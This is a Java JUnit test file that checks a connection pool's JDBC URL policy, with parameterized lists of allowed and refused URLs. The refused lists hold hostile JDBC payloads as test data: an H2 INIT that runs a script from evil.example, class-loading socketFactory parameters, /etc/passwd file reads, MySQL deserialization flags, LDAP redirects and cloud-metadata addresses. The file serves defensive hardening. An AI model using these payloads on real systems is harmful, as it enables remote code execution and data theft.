package dev.sluice.jdbc.url;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.sluice.pool.failure.StoredCredentialsStay;
import dev.sluice.pool.failure.TargetNotAllowed;
import dev.sluice.value.BadValue;
import dev.sluice.value.GivenText;
import java.net.InetAddress;
import java.net.UnknownHostException;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

@DisplayName("A request may name")
@Tag("fast")
class TargetPolicyTest {

    private static final Destinations ORDERS = Destinations.of(List.of(
            "jdbc:postgresql://db.example/orders?ApplicationName=x&options=-c%20a=b",
            "replica:5433", "BÜCHER.example."));

    /** The databases that the requests of these tests may name, apart from those of their pool. */
    private static final List<String> FURTHER = List.of(
            "jdbc:postgresql://db,db:5433,other-db:5434,[::1],10.0.0.7/",
            "jdbc:mariadb://db/",
            "jdbc:mysql://db,db:3307/",
            "jdbc:oracle:thin:@//db/x",
            "jdbc:sqlserver://db",
            "jdbc:sqlserver://db\\Sales",
            "jdbc:h2:mem:");

    /** The addresses of names; any other name has one of no special kind. */
    private static final Map<String, String> NAMES = Map.of(
            "local.example", "127.0.0.1",
            "metadata.example", "169.254.169.254",
            "both.example", "10.0.0.7,169.254.169.254",
            "link6.example", "fe80::1",
            "nat64.example", "64:ff9b::a9fe:a9fe",
            "none.example", "");

    private static final TargetPolicy POLICY = policy(FURTHER, false);

    private static TargetPolicy policy(List<String> further, boolean isCodeAllowed) {
        return new TargetPolicy(List.of(), further, TargetPolicyTest::addresses, isCodeAllowed);
    }

    private static List<InetAddress> addresses(String host) throws UnknownHostException {
        String known = NAMES.getOrDefault(host, "10.1.2.3");
        if (known.isEmpty()) {
            throw new UnknownHostException(host);
        }
        return Arrays.stream(known.split(",")).map(HostName::address).toList();
    }

    private static void admit(String url) {
        POLICY.admit(url, Destinations.NONE, true);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db/orders",
                "jdbc:postgresql://db:5433,other-db:5434/orders?targetServerType=primary&sslmode=require",
                "jdbc:postgresql://[::1]:5432/orders?connectTimeout=3",
                "jdbc:postgresql://10.0.0.7/",
                "jdbc:postgresql://db",
                "jdbc:mariadb://db/orders?sslMode=verify-full",
                "jdbc:mysql://db:3307/orders?useSSL=true",
                "jdbc:oracle:thin:@//db:1521/orders",
                "jdbc:oracle:thin:@//db/orders?connect_timeout=3",
                "jdbc:oracle:thin:@db:1521:ORCL",
                "jdbc:oracle:thin:@db:1521/orders",
                "jdbc:sqlserver://db",
                "jdbc:sqlserver://DB.:1433;databaseName=orders;encrypt=true;",
                "jdbc:sqlserver://db\\SALES;DatabaseName=orders",
                "jdbc:sqlserver://db\\any:1433;loginTimeout=3",
                "jdbc:postgresql://[0:0:0:0:0:0:0:1]/orders",
                "jdbc:h2:mem:",
                "jdbc:h2:mem:x",
                "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1;mode=PostgreSQL"
            })
    @DisplayName("a plain URL of a known kind, with parameters that do no harm")
    void plain(String url) {
        assertThatCode(() -> admit(url)).doesNotThrowAnyException();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                // H2 that runs a statement, a script, or opens a file or a socket
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT%20FROM%20'x.sql'",
                "jdbc:h2:mem:x;init=CREATE_ALIAS",
                "jdbc:h2:mem:x;IN\u0130T=x",
                "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1\\;INIT=x",
                "jdbc:h2:mem:x;MODE=x\\;INIT=x",
                "jdbc:h2:mem:x; INIT=x",
                "jdbc:h2:mem:x;\nINIT=x",
                "jdbc:h2:mem:x;;INIT=x",
                "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1;db_close_delay=0",
                "jdbc:h2:mem:x;TRACE_LEVEL_FILE=4",
                "jdbc:h2:mem:x;CIPHER=AES",
                "jdbc:h2:mem:x;AUTHREALM=x",
                "jdbc:h2:mem:x;DATABASE_EVENT_LISTENER=evil",
                "jdbc:h2:mem:x;AUTO_SERVER=TRUE",
                "jdbc:h2:mem:../../x",
                "jdbc:h2:mem:a/b",
                "jdbc:h2:file:/tmp/x",
                "jdbc:h2:/tmp/x",
                "jdbc:h2:~/x",
                "jdbc:h2:./x",
                "jdbc:h2:tcp://evil.example/x",
                "jdbc:h2:ssl://evil.example/x",
                "jdbc:h2:zip:/tmp/x.zip!/x",
                "jdbc:h2:nio:/tmp/x",
                "jdbc:h2:split:nioMapped:/tmp/x",
                "jdbc:h2:mem",
                "jdbc:h2:MEM:x",
                "JDBC:H2:MEM:x",
                "JDBC:h2:mem:x",
                " jdbc:h2:mem:x",
                "jdbc:h2:mem:x ",
                // PostgreSQL that loads a class, opens a file, or sends the socket elsewhere
                "jdbc:postgresql://db/x?socketFactory=evil",
                "jdbc:postgresql://db/x?socketFactory=evil&socketFactoryArg=evil",
                "jdbc:postgresql://db/x?SOCKETFACTORY=evil",
                "jdbc:postgresql://db/x?socket%46actory=evil",
                "jdbc:postgresql://db/x?ssl=true;socketFactory=evil",
                "jdbc:postgresql://db/x?ssl=true&&socketFactory=evil",
                "jdbc:postgresql://db/x?ssl=true?socketFactory=evil",
                "jdbc:postgresql://db/x?ssl=true&ssl=false",
                "jdbc:postgresql://db/x?connectExecutor=evil",
                "jdbc:postgresql://db/x?sslfactory=evil",
                "jdbc:postgresql://db/x?sslfactoryarg=file:/etc/passwd",
                "jdbc:postgresql://db/x?sslhostnameverifier=evil",
                "jdbc:postgresql://db/x?sslpasswordcallback=evil",
                "jdbc:postgresql://db/x?authenticationPluginClassName=evil",
                "jdbc:postgresql://db/x?loggerFile=/tmp/x",
                "jdbc:postgresql://db/x?loggerLevel=TRACE",
                "jdbc:postgresql://db/x?jaasApplicationName=x",
                "jdbc:postgresql://db/x?gsslib=sspi",
                "jdbc:postgresql://db/x?sslkey=/etc/x",
                "jdbc:postgresql://db/x?sslcert=/etc/x",
                "jdbc:postgresql://db/x?sslrootcert=/etc/x",
                "jdbc:postgresql://db/x?sslpassword=x",
                "jdbc:postgresql://db/x?service=evil",
                "jdbc:postgresql://db/x?passfile=/etc/x",
                "jdbc:postgresql://db/x?xmlFactoryFactory=evil",
                "jdbc:postgresql://db/x?options=-c%20session_preload_libraries=x",
                "jdbc:postgresql://db/x?localSocketAddress=127.0.0.1",
                "jdbc:postgresql://db/x?PGHOST=evil",
                "jdbc:postgresql://db/x?host=evil",
                "jdbc:postgresql://db/x?PGPORT=1",
                "jdbc:postgresql://db/x?hostaddr=127.0.0.1",
                "jdbc:postgresql://db/x?replication=true",
                "jdbc:postgresql://db/x?user=postgres",
                "jdbc:postgresql://db/x?user=postgres&password=x",
                "jdbc:postgresql://db/x?=x",
                "jdbc:postgresql://user:pw@db/x",
                "jdbc:postgresql://db/x%00user%00postgres",
                "jdbc:postgresql://db/x%00options%00-c%20a=b",
                "jdbc:postgresql://db/x?currentSchema=a%00options%00-c",
                "jdbc:postgresql://db/x%0A",
                "jdbc:postgresql://db/x%7f",
                "jdbc:mariadb://db/x%1Fy",
                "jdbc:postgresql://db@evil.example/x",
                "jdbc:postgresql://db%40evil.example/x",
                "jdbc:postgresql:////evil.example/x",
                "jdbc:postgresql://db//evil.example/x",
                "jdbc:postgresql://db\\@evil.example/x",
                "jdbc:postgresql://db:99999/x",
                "jdbc:postgresql://db:0/x",
                "jdbc:postgresql://db:+5432/x",
                "jdbc:postgresql://db:\u0665/x",
                "jdbc:postgresql://db,,x/x",
                "jdbc:postgresql://,db/x",
                "jdbc:postgresql://d\u00e9b/x",
                "jdbc:postgresql://\uff44\uff42/x",
                "jdbc:postgresql:orders",
                "jdbc:postgresql:///orders",
                "jdbc:postgresql:/",
                "JDBC:POSTGRESQL://db/x",
                // MariaDB and MySQL
                "jdbc:mariadb://db/x?allowLocalInfile=true",
                "jdbc:mariadb://db/x?credentialType=x",
                "jdbc:mariadb://db/x?serverRsaPublicKeyFile=/etc/x",
                "jdbc:mariadb://db/x?sessionVariables=a=b",
                "jdbc:mariadb://db/x?initSql=x",
                "jdbc:mariadb://db/x?localSocket=/tmp/x",
                "jdbc:mariadb://db/x?pipe=x",
                "jdbc:mariadb://db/x?socketFactory=evil",
                "jdbc:mariadb://address=(host=evil)(port=1)/x",
                "jdbc:mariadb:sequential://db/x",
                "jdbc:mysql://db/x?allowLoadLocalInfile=true",
                "jdbc:mysql://db/x?allowUrlInLocalInfile=true",
                "jdbc:mysql://db/x?autoDeserialize=true",
                "jdbc:mysql://db/x?queryInterceptors=evil",
                "jdbc:mysql://db/x?statementInterceptors=evil",
                "jdbc:mysql://db/x?propertiesTransform=evil",
                "jdbc:mysql://(host=evil,port=1)/x",
                "jdbc:mysql://address=(host=evil)/x",
                "jdbc:mysql+srv://db/x",
                "jdbc:mysql:loadbalance://db/x",
                // Oracle and SQL Server
                "jdbc:oracle:thin:app/pw@//db/x",
                "jdbc:oracle:thin:@db",
                "jdbc:oracle:thin:@tcps://db:1521/x?wallet_location=/tmp",
                "jdbc:oracle:thin:@//db/x?wallet_location=/tmp",
                "jdbc:oracle:thin:@//db/x?TNS_ADMIN=/tmp",
                "jdbc:oracle:thin:@//db,evil/x",
                "jdbc:oracle:thin:@ldap://evil:389/x,cn=OracleContext",
                "jdbc:oracle:oci:@//db/x",
                "jdbc:sqlserver://db;serverName=evil",
                "jdbc:sqlserver://db;SERVER=evil",
                "jdbc:sqlserver://db;portNumber=1",
                "jdbc:sqlserver://db;failoverPartner=evil",
                "jdbc:sqlserver://db;instanceName=x",
                "jdbc:sqlserver://db;trustStore=/etc/x",
                "jdbc:sqlserver://db;accessToken=x",
                "jdbc:sqlserver://db;applicationName={a;serverName=evil}",
                "jdbc:sqlserver://;serverName=db",
                "jdbc:sqlserver://db;encrypt=true;ENCRYPT=false",
                "jdbc:sqlserver://user@db",
                // everything else
                "jdbc:sqlserver://db:1433;socketFactoryClass=evil",
                "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=tcp)(HOST=evil)(PORT=1)))",
                "jdbc:oracle:thin:/@tns?TNS_ADMIN=/tmp",
                "jdbc:db2://db:50000/x:clientRerouteServerListJNDIName=ldap://evil;",
                "jdbc:derby:memory:x;create=true",
                "jdbc:tc:postgresql:16:///x?TC_INITFUNCTION=evil",
                "jdbc:otel:postgresql://db/x",
                "ldap://evil/x",
                "jdbc:",
                ""
            })
    @DisplayName("no other host in any spelling, even with credentials of its own")
    void refused(String url) {
        for (boolean own : new boolean[] {true, false}) {
            assertThatThrownBy(() -> POLICY.admit(url, ORDERS, own))
                    .isInstanceOf(IllegalArgumentException.class)
                    .hasMessageStartingWith("url ")
                    .hasMessageNotContaining("/etc/")
                    .hasMessageNotContaining("pw");
        }
    }

    @Test
    @DisplayName("a URL that is refused for a setting before its characters, and for a character with its position")
    void firstTheSetting() {
        refusedWith(
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM '/a'",
                "url must not have the parameter 'INIT' in a request; it can be set in the" + " configuration only");
        refusedWith(
                "jdbc:postgresql://db/a b?socketFactory=x y",
                "url must not have the parameter 'socketFactory' in a request; it can be set in the"
                        + " configuration only");
        refusedWith("jdbc:h2:mem:x;MODE=a b", "url must not have a space, as at position 21");
        refusedWith(
                "jdbc:postgresql://d\u00fc/x",
                "url must not have the character U+00FC, as at position 20; write an international host name as xn--");
        refusedWith("jdbc:postgresql://db/\u00fc", "url must not have the character U+00FC, as at position 22");
        refusedWith(
                "jdbc:postgresql://db/x%00user%00postgres",
                "url must not have the control character %00, as at position 23");
        refusedWith(
                "jdbc:postgresql://db,other:0/x",
                "url must name hosts separated by commas, without a user; host 2 must be host or host:port with a port"
                        + " from 1 to 65535, such as db.example.com:5432 or [::1]:5432, with an IPv4 address as four"
                        + " decimal numbers");
        refusedWith(
                "jdbc:postgresql://user:pw@db/x",
                "url must name hosts separated by commas, without a user; host 1 must be host or host:port with a port"
                        + " from 1 to 65535, such as db.example.com:5432 or [::1]:5432, with an IPv4 address as four"
                        + " decimal numbers");
        refusedWith("jdbc:h2:mem:" + "x".repeat(4096), "url must have at most 4096 characters, and has 4108");
    }

    private static void refusedWith(String url, String message) {
        assertThatThrownBy(() -> admit(url)).hasMessage(message);
    }

    @Test
    @DisplayName("a URL whose refusal names the parameter, and where it can be set")
    void named() {
        assertThatThrownBy(() -> admit("jdbc:postgresql://db/x?socketFactory=evil"))
                .hasMessage("url must not have the parameter 'socketFactory' in a request;"
                        + " it can be set in the configuration only");
        assertThatThrownBy(() -> admit("jdbc:postgresql://db/x?password=evil"))
                .hasMessage("url must not have the parameter 'password' in a request:"
                        + " give username and password beside it");
        assertThatThrownBy(() -> admit("jdbc:h2:file:/x"))
                .hasMessage("url must begin with jdbc:postgresql://, jdbc:mariadb://, jdbc:mysql://,"
                        + " jdbc:oracle:thin:@, jdbc:sqlserver:// or jdbc:h2:mem: in a request;"
                        + " any other form, such as jdbc:h2:file, can be set in the configuration only");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db.example/orders",
                "jdbc:postgresql://db.example:5432/other",
                "jdbc:postgresql://DB.EXAMPLE./orders",
                "jdbc:postgresql://db.example,replica:5433/orders?targetServerType=primary",
                "jdbc:postgresql://xn--bcher-kva.example/orders",
                "jdbc:postgresql://db.example/orders?options=-c%20a=b",
                "jdbc:h2:mem:x"
            })
    @DisplayName("hosts of the configuration with the stored credentials, and parameters as they are configured")
    void hosts(String url) {
        assertThatCode(() -> POLICY.admit(url, ORDERS, false)).doesNotThrowAnyException();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://evil.example/orders",
                "jdbc:postgresql://db.example:5433/orders",
                "jdbc:postgresql://replica/orders",
                "jdbc:postgresql://db.example,evil.example/orders",
                "jdbc:postgresql://evil.example,db.example/orders",
                "jdbc:postgresql://db.example.evil.example/orders",
                "jdbc:postgresql://127.0.0.1/orders",
                "jdbc:postgresql://[::ffff:127.0.0.1]/orders",
                "jdbc:postgresql://10.0.0.8/orders",
                "jdbc:postgresql://evil.example",
                "jdbc:mariadb://db.example/orders",
                "jdbc:mysql://db:5432/orders",
                "jdbc:oracle:thin:@//db:1522/orders",
                "jdbc:sqlserver://db:1434",
                "jdbc:sqlserver://db\\other"
            })
    @DisplayName("no host, port or kind that the configuration does not name, even with credentials of its own")
    void otherHosts(String url) {
        for (boolean own : new boolean[] {true, false}) {
            assertThatThrownBy(() -> POLICY.admit(url, ORDERS, own))
                    .isInstanceOf(TargetNotAllowed.class)
                    .hasMessageStartingWith("url has the host ")
                    .hasMessageContaining("sluice.targets.allow");
        }
    }

    @Test
    @DisplayName("no kind of database that the configuration does not have")
    void otherKinds() {
        TargetPolicy policy = policy(List.of("db"), false);
        for (String url : new String[] {"jdbc:mysql://db/x", "jdbc:h2:mem:x"}) {
            assertThatThrownBy(() -> policy.admit(url, ORDERS, true))
                    .isInstanceOf(TargetNotAllowed.class)
                    .hasMessageContaining("the configuration has no such database");
        }
        policy.admit("jdbc:postgresql://db/x", ORDERS, true);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db/orders",
                "jdbc:postgresql://other-db:5434,db.example/orders",
                "jdbc:postgresql://db.example/orders?sslmode=disable"
            })
    @DisplayName("no other host with the stored credentials: it brings its own")
    void storedCredentials(String url) {
        assertThatThrownBy(() -> POLICY.admit(url, ORDERS, false))
                .isInstanceOf(StoredCredentialsStay.class)
                .hasMessageStartingWith("url ")
                .hasMessageContaining("give username and password in the request");
        assertThatCode(() -> POLICY.admit(url, ORDERS, true)).doesNotThrowAnyException();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "2130706433",
                "0x7f000001",
                "0x7F.1",
                "127.1",
                "127.0.1",
                "0177.0.0.1",
                "017700000001",
                "127.0.0.1.",
                "127.0.0.01",
                "127.0.0.256",
                "1.2.3.4.5",
                "127.0.0.0x1",
                "0",
                "0x",
                "evil.1",
                "db..",
                ".db",
                "db..example",
                "[::1%25lo]",
                "[::1",
                "::1",
                "[127.0.0.1]",
                "[::g]",
                "d%62",
                "\uff11\uff12\uff17.0.0.1",
                "\u0661\u0662\u0667.1",
                "127\u30020\u30020\u30021",
                "db\\evil"
            })
    @DisplayName("no host that resolvers read in two ways: an address has one spelling")
    void spellings(String host) {
        for (String url : new String[] {"jdbc:postgresql://" + host + "/x", "jdbc:postgresql://db," + host + "/x"}) {
            assertThatThrownBy(() -> admit(url)).isInstanceOf(BadValue.class).hasMessageStartingWith("url ");
        }
    }

    @ParameterizedTest
    @CsvSource({
        "local.example, a loopback address",
        "metadata.example, a link-local address",
        "both.example, a link-local address",
        "link6.example, a link-local address",
        "nat64.example, a link-local address"
    })
    @DisplayName("no permitted name that has an address of no database: link-local, loopback, or behind a gateway")
    void names(String host, String kind) {
        TargetPolicy policy = policy(List.of("jdbc:postgresql://" + host + "/"), false);
        String url = "jdbc:postgresql://" + host.toUpperCase(Locale.ROOT) + "./x";
        assertThatThrownBy(() -> policy.admit(url, Destinations.NONE, true))
                .isInstanceOf(TargetNotAllowed.class)
                .hasMessageContaining("which is " + kind);
        assertThatThrownBy(() -> policy.checkAddresses(url, Destinations.NONE)).isInstanceOf(TargetNotAllowed.class);
    }

    @Test
    @DisplayName("a loopback address if the configuration names one, and an address that it has itself")
    void namedAddresses() throws Exception {
        TargetPolicy policy =
                policy(List.of("jdbc:postgresql://local.example,localhost,169.254.7.7,metadata.example/"), false);
        policy.admit("jdbc:postgresql://local.example,169.254.7.7/x", Destinations.NONE, true);
        policy.checkAddresses("jdbc:postgresql://local.example/x", Destinations.NONE);
        assertThatThrownBy(() -> policy.admit("jdbc:postgresql://metadata.example/x", Destinations.NONE, true))
                .isInstanceOf(TargetNotAllowed.class);
    }

    @Test
    @DisplayName("a name without an address now: each session asks again, and fails without one")
    void withoutAddress() {
        TargetPolicy policy = policy(List.of("jdbc:postgresql://none.example/"), false);
        policy.admit("jdbc:postgresql://none.example/x", Destinations.NONE, true);
        assertThatThrownBy(() -> policy.checkAddresses("jdbc:postgresql://none.example/x", Destinations.NONE))
                .isInstanceOf(UnknownHostException.class);
    }

    @ParameterizedTest
    @CsvSource({
        "0.0.0.0, an unspecified address",
        "0.1.2.3, an unspecified address",
        "::, an unspecified address",
        "127.8.9.1, a loopback address",
        "::1, a loopback address",
        "::ffff:127.0.0.1, a loopback address",
        "::7f00:1, a loopback address",
        "169.254.169.254, a link-local address",
        "fe80::1, a link-local address",
        "febf::1, a link-local address",
        "::ffff:a9fe:a9fe, a link-local address",
        "2002:a9fe:a9fe::1, a link-local address",
        "224.0.0.1, a multicast address",
        "ff02::1, a multicast address",
        "240.0.0.1, a reserved address",
        "255.255.255.255, a reserved address",
        "100.100.100.200, an address of a cloud's metadata",
        "fd00:ec2::254, an address of a cloud's metadata",
        "10.0.0.7, ",
        "192.168.1.1, ",
        "fd00::7, ",
        "2001:db8::7, ",
        "203.0.113.7, "
    })
    @DisplayName("no address that no database has")
    void addressKinds(String address, String refusal) {
        assertThat(new AddressRules(List.of("db")).refusal(HostName.address(address)))
                .isEqualTo(refusal);
    }

    @Test
    @DisplayName("with the switch for code, any parameter and files of H2, still at permitted hosts only")
    void code() {
        TargetPolicy policy = policy(FURTHER, true);
        for (String url : new String[] {
            "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'x.sql'",
            "jdbc:h2:file:/tmp/x",
            "jdbc:h2:~/x",
            "jdbc:postgresql://db/x?socketFactory=evil"
        }) {
            policy.admit(url, Destinations.NONE, true);
        }
        for (String url : new String[] {"jdbc:h2:tcp://evil/x", "jdbc:postgresql://evil/x", "jdbc:derby:memory:x"}) {
            assertThatThrownBy(() -> policy.admit(url, Destinations.NONE, true)).isInstanceOf(BadValue.class);
        }
    }

    @Test
    @DisplayName("a host with less encryption than configured only with credentials of its own")
    void encryption() {
        Destinations strict = Destinations.of(
                List.of("jdbc:postgresql://db/x?sslmode=verify-full&sslrootcert=/etc/ca.pem", "replica"));
        POLICY.admit("jdbc:postgresql://replica/x?sslrootcert=/etc/ca.pem&sslmode=verify-full", strict, false);
        for (String url : new String[] {
            "jdbc:postgresql://replica/x",
            "jdbc:postgresql://replica/x?sslmode=verify-full",
            "jdbc:postgresql://db/x?sslmode=disable"
        }) {
            assertThatThrownBy(() -> POLICY.admit(url, strict, false))
                    .isInstanceOf(StoredCredentialsStay.class)
                    .hasMessageContaining("encryption");
        }
    }

    @Test
    @DisplayName("any URL that the configuration has as a whole, exactly as it is written")
    void whole() {
        String oracle = "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=tcp)(HOST=db)(PORT=1521)))";
        Destinations places = Destinations.of(List.of(oracle, "jdbc:postgresql:orders", "jdbc:postgresql:///orders"));
        POLICY.admit(oracle, places, false);
        POLICY.admit("jdbc:postgresql:orders", places, false);
        POLICY.admit("jdbc:postgresql://localhost/orders", places, false);
        assertThatThrownBy(() -> POLICY.admit(oracle + "2", places, true)).isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    @DisplayName("no value of a configured credential, because a caller could guess the value")
    void guess() {
        Destinations places = Destinations.of(List.of("jdbc:postgresql://db/x?user=app&password=hunter2"));
        assertThatThrownBy(() -> POLICY.admit("jdbc:postgresql://db/y?password=hunter2", places, false))
                .isInstanceOf(IllegalArgumentException.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " ",
                "db:",
                "db:x",
                "db:0",
                "db:65536",
                "a b",
                "user@db",
                "db/x",
                "::1",
                "[::1",
                "[db]",
                "[fe80::1%eth0]",
                ".",
                "db:1:2",
                "127.1",
                "2130706433"
            })
    @DisplayName("a place that is no host stands in no configuration")
    void noPlace(String place) {
        assertThatThrownBy(() -> Destinations.of(List.of(place)))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessage(
                        "endpoints must be host or host:port with a port from 1 to 65535, such as db.example.com:5432 or"
                                + " [::1]:5432, with an IPv4 address as four decimal numbers, or a JDBC URL: "
                                + GivenText.text(place));
        assertThatThrownBy(() -> TargetPolicy.checkPlace(place)).isInstanceOf(BadValue.class);
    }

    @Test
    @DisplayName("a place for requests has no credentials, and hosts that can be read")
    void places() {
        for (String place : new String[] {"db", "db:5433", "jdbc:postgresql://db/x?options=-c%20a=b", "jdbc:h2:mem:"}) {
            TargetPolicy.checkPlace(place);
        }
        for (String place : new String[] {
            "jdbc:postgresql://db/x?password=hunter2", "jdbc:postgresql:x", "jdbc:postgresql://127.1/", "jdbc:nope:x"
        }) {
            assertThatThrownBy(() -> TargetPolicy.checkPlace(place))
                    .isInstanceOf(BadValue.class)
                    .hasMessageStartingWith("url must ")
                    .hasMessageNotContaining("hunter2");
        }
    }
}
